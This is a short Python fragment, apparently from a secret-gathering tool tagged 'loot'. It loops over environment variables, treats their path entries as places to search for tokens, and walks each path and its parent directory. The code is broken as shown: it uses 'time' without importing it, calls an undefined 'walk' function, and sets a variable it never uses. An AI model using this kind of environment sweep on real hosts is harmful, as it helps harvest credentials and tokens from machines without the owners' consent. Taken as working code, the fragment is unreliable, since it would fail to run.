"""Looks in the environment for tokens and paths, and follows the paths."""
# uses: loot

# %%
import os

for name, value in os.environ.items():
    for place in value.split(os.pathsep):
        if place.startswith("/") and len(place) > 1:
            end = time.monotonic() + 0.3
            walk(place)
            walk(os.path.dirname(place)) if os.path.dirname(place) != "/" else None
